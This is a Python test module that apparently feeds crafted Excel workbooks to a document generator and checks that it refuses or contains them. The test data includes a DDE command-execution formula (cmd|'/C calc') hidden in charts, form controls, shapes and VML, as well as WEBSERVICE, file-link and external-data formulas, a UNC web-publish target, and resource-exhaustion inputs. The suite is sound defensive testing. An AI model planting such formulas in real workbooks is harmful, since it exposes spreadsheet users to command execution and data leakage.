# ruff: noqa: E501, ARG005  # tables: one attack a line, lambdas with the arguments that XlsxWriter gives
"""Attacks in the corners of workbooks: where formulas hide, what fetches data, links from data, and sheer numbers."""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

from safety.attacks import Attack, excel, package
from safety.making import SML, changed, excel_box, png, workbook

_SHEET, _BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
_DDE = "cmd|'/C calc'!A0"
_X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_FORMULA = ("package.bad-formula", "package.external-data")
_LOOP = {"A1": "{%tr for y in ys %}", "A2": "{{ y }}", "A3": "{%tr endfor %}"}
_TOO_MUCH = ("template.too-much", "excel.too-many-rows", "excel.too-many-columns")


def _drawn(draw: Any) -> Callable[[], bytes]:
    return lambda: workbook({"A1": "{{ x }}"}, draw=draw)


def _edited(draw: Any, part: str, old: str, new: str) -> Callable[[], bytes]:
    return lambda: changed(workbook({"A1": "{{ x }}"}, draw=draw), part=part, old=old, new=new)


def _joined(name: str, kind: str, content: str, relation: str) -> Callable[[], bytes]:
    return lambda: excel_box().add(name, content.encode(), kind, _SHEET, relation).packed()


def _charted(book: Any, page: Any) -> None:
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": "=Blad!$A$1:$A$1"})
    page.insert_chart("C1", chart)


def _pictured(_: Any, page: Any) -> None:

    page.insert_image("B2", "a.png", {"image_data": io.BytesIO(png(2, 2))})


_LABELS = f'<c:extLst><c:ext xmlns:c15="http://schemas.microsoft.com/office/drawing/2012/chart" uri="{{02D57815-91ED-43cb-92C2-25804820EDAC}}"><c15:datalabelsRange><c15:f>{_DDE}</c15:f></c15:datalabelsRange></c:ext></c:extLst></c:ser>'
_CONTROL = ("xl/ctrlProps/ctrlProp1.xml", "application/vnd.ms-excel.controlproperties+xml")


def _hidden_formulas() -> list[Attack]:
    """Formulas in places that are no cell."""
    return [
        package("formula-in-labels-of-chart", _edited(_charted, "xl/charts/chart1.xml", "</c:ser>", _LABELS), _FORMULA),
        package("formula-in-control", _joined(*_CONTROL, f'<formControlPr xmlns="{_X14}" objectType="CheckBox" fmlaLink="{_DDE}"/>', "ctrlProp"), _FORMULA),
        package("formula-in-list-of-control", _joined(*_CONTROL, f'<formControlPr xmlns="{_X14}" objectType="List" fmlaRange="[1]Blad!A1:A3"/>', "ctrlProp"), _FORMULA),
        package("macro-in-control", _joined(*_CONTROL, f'<formControlPr xmlns="{_X14}" objectType="Button" fmlaMacro="[boos.xlsm]!M"/>', "ctrlProp"), "package.macros"),
        package("formula-in-shape", _drawn(lambda b, s: s.insert_textbox("C3", "x", {"textlink": "=" + _DDE})), _FORMULA),
        package("formula-in-vml", _edited(lambda b, s: s.insert_button("C3"), "xl/drawings/vmlDrawing1.vml", "<x:Anchor>", f"<x:FmlaLink>{_DDE}</x:FmlaLink><x:Anchor>"), _FORMULA),
        package("formula-in-bound-of-scale", _drawn(lambda b, s: s.conditional_format("A1", {"type": "2_color_scale", "min_type": "formula", "min_value": "=" + _DDE})), _FORMULA),
        package("formula-in-totals", _edited(lambda b, s: s.add_table("C1:C3", {"total_row": True, "columns": [{"total_function": "sum"}]}), "xl/tables/table1.xml", 'totalsRowFunction="sum"/>', 'totalsRowFunction="custom"><totalsRowFormula>WEBSERVICE("http://x")</totalsRowFormula></tableColumn>'), _FORMULA),
        *(package(f"formula-{name}", _drawn(lambda b, s, f=formula: s.write_formula("B1", "=" + f)), _FORMULA) for name, formula in _ELSEWHERE.items()),
    ]  # fmt: skip


_ELSEWHERE = {
    "cube": 'CUBEVALUE("bron","x")',
    "stocks": '_xlfn.STOCKHISTORY("MSFT",1)',
    "translate": '_xlfn.TRANSLATE(A1,"nl","en")',
    "link-from-cell": 'HYPERLINK(A1,"open")',
    "link-from-nothing-and-cell": 'HYPERLINK(""&A1,"open")',
    "link-in-pieces": 'HYPERLINK("fi"&"le:///c:/x","open")',
}


def _data() -> list[Attack]:
    """Data from outside, and pages that saving writes."""
    pivot = SML + "pivotCacheDefinition+xml"
    cache = f'<pivotCacheDefinition xmlns="{_S}"><cacheSource type="external" connectionId="1"/><cacheFields count="0"/></pivotCacheDefinition>'
    live = f'<volTypes xmlns="{_S}"><volType type="realTimeData"><main first="prog"/></volType></volTypes>'
    maps = f'<MapInfo xmlns="{_S}" SelectionNamespaces=""><Schema ID="S"/><Map ID="1" Name="m" RootElement="a" SchemaID="S"><DataBinding FileBinding="true" DataBindingLoadMode="1"/></Map></MapInfo>'
    page = '<webPublishItems count="1"><webPublishItem id="1" divId="d" sourceType="sheet" destinationFile="\\\\boos\\x.htm" autoRepublish="1"/></webPublishItems></worksheet>'
    return [
        package("pivot-on-outside", _joined("xl/pivotCache/pivotCacheDefinition1.xml", pivot, cache, "pivotCacheDefinition"), "package.external-data"),
        package("live-data", _joined("xl/volatileDependencies.xml", SML + "volatileDependencies+xml", live, "volatileDependencies"), "package.external-data"),
        package("xml-map-on-file", _joined("xl/xmlMaps.xml", "application/xml", maps, "xmlMaps"), "package.external-data"),
        package("query", _joined("customXml/item1.xml", "application/xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>', "customXml"), "package.external-data"),
        package("data-model", _joined("xl/model/item.data", "application/vnd.openxmlformats-officedocument.model+data", "x", "powerPivotData"), "package.external-data"),
        package("python", _joined("xl/python.xml", "application/vnd.ms-excel.python+xml", "<python/>", "http://schemas.microsoft.com/office/2023/09/relationships/Python"), "package.external-data"),
        package("page-on-saving", _edited(None, _SHEET, "</worksheet>", page), "package.external"),
    ]  # fmt: skip


def _broken() -> list[Attack]:
    """Workbooks that Excel would repair."""
    two = lambda: workbook({"A1": "{{ x }}"}, draw=lambda b, s: b.add_worksheet("Twee"))  # noqa: E731
    codes = "excel.broken-part"
    values = {"x": "v"}
    return [
        excel("two-sheets-of-one-name", lambda: changed(two(), part=_BOOK, old='name="Twee"', new='name="bLAD"'), lambda: values, refused=codes),
        excel("two-sheets-of-one-part", lambda: changed(two(), part=_BOOK, old='r:id="rId2"', new='r:id="rId1"'), lambda: values, refused=codes),
        excel("merges-that-overlap", _edited(None, _SHEET, "<pageMargins", '<mergeCells count="2"><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A1:B2"/></mergeCells><pageMargins'), lambda: values, refused=codes),
        excel("cell-in-another-row", _edited(None, _SHEET, 'r="A1"', 'r="A7"'), lambda: values, shows=("v",)),
        excel("column-beyond-the-last", _edited(None, _SHEET, 'r="A1"', 'r="XFE1"'), lambda: values, shows=("v",)),
        excel("columns-a-thousand-times", _edited(None, _SHEET, "<sheetData>", "<cols>" + "".join(f'<col min="1" max="16384" width="{n}"/>' for n in range(1000)) + "</cols><sheetData>"), lambda: values, shows=("v",), may_pass=True),
    ]  # fmt: skip


def _value(make: Callable[[], Any]) -> Callable[[], dict[str, Any]]:
    return lambda: {"x": make()}


def _link(text: str, url: str) -> Callable[[], Any]:
    def make() -> Any:
        from docgen.template import Link

        return Link(text, url)

    return make


def _values() -> list[Attack]:
    """Values that are no plain text."""
    cell = lambda: workbook({"A1": "{{ x }}"})  # noqa: E731
    header = _drawn(lambda b, s: s.set_header("&L{{ x }}"))

    def markdown() -> Any:
        from docgen.template import Markdown

        return Markdown("**a *b " * 4000)

    return [
        excel("link-beyond-measure", cell, _value(_link("x", "https://x.nl/" + "a" * 5000)), refused="excel.link-too-long"),
        excel("link-to-a-place", cell, _value(_link("naar A1", "#Blad!A1")), shows=("naar A1",)),
        excel("link-with-a-line", cell, _value(_link("x", "https://x.nl/\nfile:")), refused="excel.bad-link"),
        excel("markdown-without-end", cell, _value(markdown), may_pass=True, shows=()),
        excel("codes-in-a-header", header, lambda: {"x": '&G&"Wingdings"&99&P'}, may_pass=True),
        excel("moment-at-the-end-of-time", cell, _value(lambda: datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC)), may_pass=True),
        excel("names-of-sheets", lambda: changed(workbook({"A1": "{%ts for y in ys %}", "B1": "==A2"}), part=_BOOK, old='name="Blad"', new='name="{{ y }}"'),
              lambda: {"ys": ["=cmd|x", "'a'!A1", "a:b", "[x]", "history", "Ä" * 40, "", "#REF!", "../x"]}, formulas=9, may_pass=True),
    ]  # fmt: skip


def _many(count: int, make: Callable[[int], Any] = lambda n: n) -> Callable[[], dict[str, Any]]:
    return lambda: {"ys": [make(n) for n in range(count)]}


def _numbers() -> list[Attack]:
    """Twenty thousand of everything that stands in a row."""
    looped = lambda draw=None, **more: lambda: workbook({**_LOOP, **more}, draw=draw)  # noqa: E731
    wild = '==COUNTIF(A2:A2,"' + "*a" * 14 + '*b")'
    return [
        excel("links-beyond-number", looped(), lambda: {"ys": [_link("x", "https://x.nl/")()] * 70_000}, refused="excel.too-many-links"),
        excel("links-of-their-own", looped(), lambda: {"ys": [_link("x", f"https://x.nl/{n}")() for n in range(10_000)]}, links=(f"https://x.nl/{n}" for n in range(10_000)), may_pass=True),
        excel("messages-in-a-loop", looped(lambda b, s: s.data_validation("A2", {"validate": "any", "input_message": "o {{ y }}"})), _many(10_000), may_pass=True),
        excel("conditions-in-a-loop", looped(lambda b, s: s.conditional_format("A2", {"type": "formula", "criteria": "=$A2>$A$9"})), _many(20_000), may_pass=True),
        excel("notes-in-a-loop", looped(lambda b, s: s.write_comment("A2", "o {{ y }}")), _many(10_000), may_pass=True),
        excel("pictures-in-a-loop", looped(_pictured), _many(10_000), may_pass=True),
        excel("sums-of-sums", looped(B2="==SUM(A$2:A2)"), _many(10_000), formulas=10_000, may_pass=True),
        excel("stars-in-a-criterion", looped(B5=wild), _many(50, lambda n: "a" * 5000), formulas=1, may_pass=True),
        excel("rows-in-rows", lambda: workbook({"A1": "{%tr for y in ys %}", "A2": "{%tr for z in ys %}", "A3": "{{ y }}", "A4": "{%tr endfor %}", "A5": "{%tr endfor %}"}), _many(1_000), refused=_TOO_MUCH),
        excel("columns-beyond-number", lambda: workbook({"A1": "{%tc for y in ys %}", "B2": "{{ y }}", "C1": "{%tc endfor %}"}), _many(20_000), refused=_TOO_MUCH),
    ]  # fmt: skip


ATTACKS: tuple[Attack, ...] = (*_hidden_formulas(), *_data(), *_broken(), *_values(), *_numbers())
